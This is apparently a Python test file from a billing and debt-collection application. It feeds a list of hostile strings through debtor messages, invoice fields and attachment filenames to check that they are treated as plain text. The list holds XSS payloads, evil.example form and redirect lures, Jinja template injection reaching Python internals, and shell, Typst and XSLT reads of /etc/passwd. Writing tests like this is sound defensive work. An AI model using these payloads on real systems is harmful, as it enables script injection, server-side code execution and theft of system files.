"""HTML and template injection: words of others that a page, a template, a format string or a typesetter might run."""

from __future__ import annotations

from html import escape

from tests.hostile.case import REGISTERED, SHOWN, Case, table
from tests.hostile.post import by_debtor, file_part, handing, invoice, with_files

# 1234321 * 7 = 8640247: the safety checks look for the result, and for what would be read of this machine
WORDS = {
    "script": "<script>alert(1)</script>",
    "picture": "<img src=x onerror=alert(1)>",
    "picture from elsewhere": '<img src="https://evil.example/p.gif">',
    "svg": '"><svg/onload=alert(1)>',
    "style": "<style>@import url(https://evil.example/x.css);</style>",
    "end of style": "</style></head><body onload=alert(1)>",
    "form": "<form action=https://evil.example><input name=iban></form>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "frame": "<iframe srcdoc='<script>1</script>'></iframe>",
    "script link": '<a href="javascript:alert(1)">x</a>',
    "data link": '<a href="data:text/html,<script>1</script>">x</a>',
    "mail link": '<a href="mailto:a@evil.example?bcc=b@evil.example">x</a>',
    "base": '<base href="https://evil.example/">',
    "comment": "<!-- --!> --> <!--[if mso]><script>1</script><![endif]-->",
    "twice escaped": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt;",
    "entity without end": "&#60script&#62alert(1)&#x3c/script&#x3e",
    "CDATA": "]]><script>alert(1)</script>",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "wide brackets": "＜script＞alert(1)＜/script＞",
    "quote and event": '" onmouseover="alert(1)" x=\'',
    "jinja": "{{ 1234321*7 }}",
    "jinja block": "{% for x in range(9) %}{{ 1234321*7 }}{% endfor %}",
    "jinja classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "jinja page": "{{ page.agency }}{{ self._TemplateReference__context }}",
    "jinja include": '{% include "/etc/passwd" %}{% import "os" as x %}',
    "jinja comment": "{# {{ 1234321*7 }} #}{{",
    "jinja line": "# for x in range(9)\n## {{ 1234321*7 }}",
    "format": "{0.__class__} {page.creditor.name.__class__} {}",
    "percent": "%(name)s %s %n %x %d %99999999s",
    "shell": "$(cat /etc/passwd) `id` ${1234321*7} #{1234321*7}",
    "typst": '#read("/etc/passwd") #eval("1234321*7") #(1234321*7)',
    "typst markup": '= Title\n*x* $ 1234321 * 7 $ @ref <label> ~ \\ #import "x.typ": *',
    "XSLT": "<xsl:value-of select=\"document('/etc/passwd')\"/>",
    "PHP": "<?php echo 1234321*7; ?><%= 1234321*7 %>",
    "backslashes": "\\u003cscript\\u003e \\x3cb\\x3e \\n\\r\\t \\0",
    "JSON": '"},{"is":"prose","parts":["x"]},{"a":"',
}


def _xml(text: str) -> str:
    return escape(text).replace("\n", "&#10;")


CASES: list[Case] = [
    *table(
        "a debtor's words are shown to his creditor as words",
        SHOWN,
        [(f"words: {n}", by_debtor(f"Je dois vérifier cela avec mon associé. {w}")) for n, w in WORDS.items()],
    ),
    *table(
        "a buyer's name and a number stay what they are on every page",
        REGISTERED,
        [
            (
                f"invoice: {n}",
                handing(
                    invoice(changes={"Batiplus Construct SA": f"Bati {_xml(w)}", "ID>2026-600<": f"ID>26 {_xml(w)}<"})
                ),
            )
            for n, w in WORDS.items()
        ],
    ),
    *table(
        "the name of a file that is handed on stays a name",
        SHOWN,
        [
            (
                f"file: {n}",
                with_files(
                    file_part(
                        b"GIF89a", b"filename*=utf-8''" + "".join(f"%{b:02X}" for b in w.encode()).encode() + b".gif"
                    ),
                    sender="Compta <compta@batiplus.example>",
                    text="Je dois vérifier cela avec mon associé.",
                ),
            )
            for n, w in WORDS.items()
            if n in ("script", "picture", "jinja", "format", "typst", "JSON", "quote and event", "shell")
        ],
    ),
]
